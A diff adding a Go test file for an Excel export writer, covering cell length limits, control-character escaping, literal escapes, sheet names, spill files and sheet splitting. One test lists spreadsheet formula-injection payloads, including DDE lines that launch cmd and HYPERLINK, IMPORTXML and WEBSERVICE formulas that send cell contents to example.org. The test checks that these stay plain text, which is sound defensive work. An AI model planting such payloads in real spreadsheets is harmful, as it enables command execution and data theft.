@@ -1,0 +1,295 @@
+package excel
+
+import (
+	"bytes"
+	"math"
+	"math/rand/v2"
+	"os"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+	"unicode/utf16"
+
+	"signins/schema"
+	"signins/writer/manifest"
+)
+
+// textRow writes one row of the user agent column for each text and returns
+// what a reader gets.
+func textRow(t *testing.T, texts ...string) (*Writer, []string) {
+	t.Helper()
+	x, book := writeExcel(t, nil, excelBatch(len(texts), func(row int, c *[schema.NumColumns]schema.Vector) {
+		c[schema.UserAgent].SetText(row, texts[row])
+	}))
+	var read []string
+	for _, row := range book.sheets[signInSheet].table() {
+		read = append(read, row["User agent"].text)
+	}
+	return x, read
+}
+
+// TestExcelFormulas writes what spreadsheets and their attackers take for
+// formulas into every text column: all of it stays text, and the reader of the
+// tests refuses any formula or hyperlink.
+func TestExcelFormulas(t *testing.T) {
+	payloads := []string{
+		"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"a\")",
+		`=HYPERLINK("http://example.org/?x="&A1,"click")`, `=WEBSERVICE("http://example.org/")`, "http://example.org/", `=IMPORTXML(CONCAT("http://example.org/",A1),"//a")`,
+		"@import", "＝1+1", "'=1+1", `"=1+1`, "%0A=1+1", "{=1+1}", "mailto:a@example.org", `\\host\share`,
+	}
+	b := excelBatch(len(payloads), func(row int, c *[schema.NumColumns]schema.Vector) {
+		for id, column := range schema.Columns {
+			switch {
+			case column.Kind == schema.TextList:
+				c[id].SetBytes(row, schema.AppendList(nil, []byte(payloads[row]), false))
+			case column.Kind.Coded():
+				c[id].SetText(row, payloads[row])
+			}
+		}
+		c[schema.ErrorCode].SetNum(row, int64(row))
+	})
+	run := &manifest.Run{Skipped: []schema.Skipped{{Path: payloads[0], Reason: payloads[1]}}}
+	for _, p := range payloads {
+		run.Inputs = append(run.Inputs, &manifest.Input{Path: p, Dialect: p, Warnings: []manifest.Warning{{Code: p, Count: 1, Message: p}}})
+	}
+	_, book := writeExcel(t, run, b)
+	for row, cells := range book.sheets[signInSheet].table() {
+		for _, column := range schema.Columns {
+			if cell := cells[column.Title]; column.Kind.Coded() && (cell.text != payloads[row] || !cell.isText) {
+				t.Errorf("%s: %+v, want %q", column.Name, cell, payloads[row])
+			}
+		}
+	}
+}
+
+// TestT09CellLimit cuts what a cell cannot hold, says how much is missing and
+// counts it.
+func TestT09CellLimit(t *testing.T) {
+	long, emoji := strings.Repeat("a", 40000), strings.Repeat("😀", 20000)
+	fits, emojiFits := strings.Repeat("a", cellUnits), "a"+strings.Repeat("😀", cellUnits/2)
+	x, read := textRow(t, long, emoji, "b"+emoji, fits, emojiFits, "b"+fits, long)
+	if x.Cut() != 5 || x.Escaped() != 0 {
+		t.Errorf("cut %d, escaped %d", x.Cut(), x.Escaped())
+	}
+	if read[3] != fits || read[4] != emojiFits {
+		t.Error("text that fits was changed")
+	}
+	for i, source := range map[int]string{0: long, 1: emoji, 2: "b" + emoji, 5: "b" + fits, 6: long} {
+		kept, mark, found := strings.Cut(read[i], " … [cut: ")
+		missing, err := strconv.Atoi(strings.TrimSuffix(mark, " characters]"))
+		if !found || err != nil || !strings.HasPrefix(source, kept) {
+			t.Fatalf("%d ends in %q", i, read[i][len(read[i])-60:])
+		}
+		if n := len([]rune(kept)) + missing; n != len([]rune(source)) {
+			t.Errorf("%d accounts for %d characters", i, n)
+		}
+		if units := len(utf16.Encode([]rune(read[i]))); units > cellUnits || units < cellUnits-4 {
+			t.Errorf("%d has %d UTF-16 units", i, units)
+		}
+	}
+}
+
+// TestT10ControlCharacters escapes what XML cannot hold, visibly, and counts
+// it.
+func TestT10ControlCharacters(t *testing.T) {
+	for source, want := range map[string]string{
+		"a\x00b":               `a\u0000b`,
+		"\x01\x08\x0b\x0c\x1f": `\u0001\u0008\u000B\u000C\u001F`,
+		"\uFFFE\uFFFF":         `\uFFFE\uFFFF`,
+		"bad \xff\xc3 utf-8":   `bad \xFF\xC3 utf-8`,
+		"\xed\xa0\x80":         `\xED\xA0\x80`,
+	} {
+		x, read := textRow(t, source, source, "clean")
+		if read[0] != want || read[1] != want {
+			t.Errorf("%q: %q", source, read[0])
+		}
+		if x.Escaped() != 2 || x.Cut() != 0 {
+			t.Errorf("%q: escaped %d, cut %d", source, x.Escaped(), x.Cut())
+		}
+	}
+	clean := "\ttab \uFFFD \u007f \u0085 \u2028 \U0010FFFF"
+	if x, read := textRow(t, clean); read[0] != clean || x.Escaped() != 0 {
+		t.Errorf("%q: escaped %d", read[0], x.Escaped())
+	}
+}
+
+// TestT10EscapedAndCut does not cut inside an escape and counts an escape only
+// where it is still there.
+func TestT10EscapedAndCut(t *testing.T) {
+	x, read := textRow(t, strings.Repeat("\x00", 10000), strings.Repeat("a", 40000)+"\x00")
+	if x.Cut() != 2 || x.Escaped() != 1 {
+		t.Errorf("cut %d, escaped %d", x.Cut(), x.Escaped())
+	}
+	kept, _, _ := strings.Cut(read[0], " … ")
+	if strings.Trim(strings.ReplaceAll(kept, `\u0000`, ""), "") != "" {
+		t.Errorf("ends in %q", kept[len(kept)-12:])
+	}
+}
+
+// TestT11LiteralEscapes keeps text that reads like the escapes of the format.
+// excelize alone loses the second of two that share an underscore and drops
+// surrogates.
+func TestT11LiteralEscapes(t *testing.T) {
+	texts := []string{
+		"_x0041_", "a_x0041_b", "_x0041_x0042_", "_x0041__x0042_", "_xD800_", "a_xDFFF_b", "_x005F_x0041_", "_x005F_", "_x005f_x005f_x0041_",
+		"_x000D_", "_x41_", "_x4_", "_x00041_", "_x_", "_x004g_", "__x0041_", "_x0041", "_X0041_", "eyJ_xAb_cd", "_x000D_\r\n<&>\"' ", " _x0041_ ",
+	}
+	if x, read := textRow(t, texts...); !slices.Equal(read, texts) || x.Escaped() != 0 {
+		t.Errorf("read %q, escaped %d", read, x.Escaped())
+	}
+}
+
+// TestT11AnyText writes random texts of the characters that matter.
+func TestT11AnyText(t *testing.T) {
+	r := rand.New(rand.NewPCG(1, 1))
+	parts := []string{"_", "_", "x", "x", "_x", "0", "4", "1", "D8", "005F", "000D", "\r", "\n", "\t", " ", "&", "<", `"`, "😀", "ä"}
+	texts := make([]string, 3000)
+	for i := range texts {
+		for range 1 + r.IntN(16) {
+			texts[i] += parts[r.IntN(len(parts))]
+		}
+	}
+	_, read := textRow(t, texts...)
+	for i := range texts {
+		if read[i] != texts[i] {
+			t.Errorf("%q: read %q", texts[i], read[i])
+		}
+	}
+}
+
+// TestT11LineEnds keeps all line ends: XML readers turn bare CR and CR LF into
+// LF.
+func TestT11LineEnds(t *testing.T) {
+	texts := []string{"a\r\nb", "a\rb", "a\nb", "\r", "\r\n", "\n", "a\n\r\nb\r", " \t\r\n"}
+	if _, read := textRow(t, texts...); !slices.Equal(read, texts) {
+		t.Errorf("read %q", read)
+	}
+}
+
+// TestT14SheetNames refuses names that are taken or reserved, in any case.
+func TestT14SheetNames(t *testing.T) {
+	var out bytes.Buffer
+	x, _ := newTestExcel(t, &out, nil)
+	defer x.Abort()
+	for i, name := range []string{summarySheet, signInSheet} {
+		if err := x.newPage(name, sheetLook{tab: navy, columns: seen(9)}).frame(i); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for _, name := range []string{"SUMMARY", "sign-INS", "History", "hIsToRy", "", "a/b", "'a", strings.Repeat("a", 32)} {
+		if err := x.newPage(name, sheetLook{tab: navy, columns: seen(9)}).frame(2); err == nil {
+			t.Errorf("%q was taken", name)
+		}
+	}
+}
+
+// TestT15SpillFiles leaves no spill file, neither after Close nor after Abort,
+// and makes none elsewhere.
+func TestT15SpillFiles(t *testing.T) {
+	elsewhere := t.TempDir()
+	t.Setenv("TMPDIR", elsewhere)
+	big := excelBatch(540, func(row int, c *[schema.NumColumns]schema.Vector) {
+		c[schema.Extra].SetText(row, strings.Repeat("x", 32000)+strconv.Itoa(row))
+	})
+	for name, end := range map[string]func(*Writer) error{
+		"close": (*Writer).Close,
+		"abort": func(x *Writer) error { x.Abort(); return nil },
+	} {
+		var out bytes.Buffer
+		x, dir := newTestExcel(t, &out, nil)
+		if err := x.Write(big); err != nil {
+			t.Fatal(err)
+		}
+		if entries, err := os.ReadDir(dir); err != nil || len(entries) == 0 {
+			t.Errorf("%s: no spill file before: %v", name, err)
+		}
+		if err := end(x); err != nil {
+			t.Fatal(err)
+		}
+		wantNoFiles(t, dir)
+		wantNoFiles(t, elsewhere)
+		if name == "close" {
+			if rows := readExcel(t, out.Bytes()).sheets[signInSheet].rows; len(rows) != 541 {
+				t.Errorf("%d rows", len(rows))
+			}
+		}
+	}
+}
+
+// TestT27SheetSplit begins a new sheet where one is full; together they have
+// all rows, in order.
+func TestT27SheetSplit(t *testing.T) {
+	cases := map[string]func(*Writer){
+		"rows":  func(x *Writer) { x.rowLimit = 10 },
+		"bytes": func(x *Writer) { x.xmlLimit = x.signIns.page().part.bytes() + 560 },
+	}
+	for name, limit := range cases {
+		var out bytes.Buffer
+		x, _ := newTestExcel(t, &out, nil)
+		limit(x)
+		for n := range 3 {
+			err := x.Write(excelBatch(8, func(row int, c *[schema.NumColumns]schema.Vector) {
+				c[schema.ID].SetText(row, strconv.Itoa(n*8+row)+strings.Repeat(`"`, 20))
+			}))
+			if err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := x.Close(); err != nil {
+			t.Fatal(err)
+		}
+		book := readExcel(t, out.Bytes())
+		want := []string{"Summary", "Sign-ins", "Sign-ins 2", "Sign-ins 3", "Conditional access"}
+		if !slices.Equal(book.names[:5], want) {
+			t.Fatalf("%s: sheets %q", name, book.names)
+		}
+		next := 0
+		for _, sheet := range want[1:4] {
+			if title := book.sheets[sheet].rows[0]["A"].text; title != "Date (UTC)" {
+				t.Errorf("%s: %s begins with %q", name, sheet, title)
+			}
+			for _, row := range book.sheets[sheet].table() {
+				if got := strings.TrimRight(row["Request ID"].text, `"`); got != strconv.Itoa(next) {
+					t.Errorf("%s: row %s, want %d", name, got, next)
+				}
+				next++
+			}
+		}
+		if next != 24 || x.Rows() != 24 {
+			t.Errorf("%s: %d rows, Rows %d", name, next, x.Rows())
+		}
+	}
+}
+
+// TestT27RealLimit is the limit of the format: header and rows fill a sheet.
+func TestT27RealLimit(t *testing.T) {
+	if sheetRows+1 != 1048576 {
+		t.Errorf("limit %d", sheetRows)
+	}
+	// The row that reaches the limit of bytes may be the largest there is: an
+	// ampersand is five bytes in XML.
+	const largest, around = int(numSheetColumns) * cellUnits * len("&amp;"), 1 << 20
+	if sheetXML+largest+around > math.MaxInt32 {
+		t.Errorf("a sheet may have %d bytes", sheetXML+largest+around)
+	}
+}
+
+// FuzzExcelText writes any text into cells: a reader gets the text, or the
+// cell is counted as cut or escaped.
+func FuzzExcelText(f *testing.F) {
+	for _, seed := range append(diceTexts, "_x0041_x0042_", "_xD800_", "a\r\nb", "\x00", "\xff", "_x005F_x0041_") {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, text string) {
+		cell := newCellText([]byte(text))
+		var read string
+		mustUnmarshal(t, appendT(nil, cell.text), &read)
+		if read = decodeCell(read); (read != text) != (cell.cut || cell.escaped) {
+			t.Errorf("%q: read %q, cut %v, escaped %v", text, read, cell.cut, cell.escaped)
+		}
+		if units := len(utf16.Encode([]rune(read))); units > cellUnits {
+			t.Errorf("%q: %d UTF-16 units", text, units)
+		}
+	})
+}
